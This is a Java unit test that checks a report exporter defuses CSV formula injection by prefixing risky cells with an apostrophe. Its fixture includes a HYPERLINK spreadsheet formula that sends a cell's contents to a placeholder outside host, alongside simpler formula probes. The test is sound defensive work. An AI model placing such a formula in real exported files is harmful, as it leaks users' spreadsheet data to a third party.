package vn.giadinhso.hub.report;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** Issue 10.9: a CSV cell a spreadsheet would run as a formula is made plain text. */
class ReportExportsTest {
  @Test
  void cellsStartingWithAFormulaCharacterGetAnApostropheAndNumbersStayNumbers() throws Exception {
    List<String> risky = List.of("=HYPERLINK(\"http://x.example/?d=\"&A1,\"Bấm\")", "+1+2", "-2+3", "@SUM(A1:A2)",
        "\t=1+1", "\r=1+1");
    List<Object> row = new java.util.ArrayList<>(risky);
    row.add(-5);
    row.add("Thôn Tân Thành");
    String csv = new String(ReportExports.csv(new ReportTable(List.of("a", "b", "c", "d", "e", "f", "g", "h"), List.of(row))),
        StandardCharsets.UTF_8).substring(1);
    List<CSVRecord> records = CSVFormat.EXCEL.parse(new StringReader(csv)).getRecords();
    CSVRecord cells = records.get(1);
    for (int i = 0; i < risky.size(); i++) {
      assertEquals("'" + risky.get(i), cells.get(i));
    }
    assertEquals("-5", cells.get(6), "a number is not text");
    assertEquals("Thôn Tân Thành", cells.get(7));
  }
}
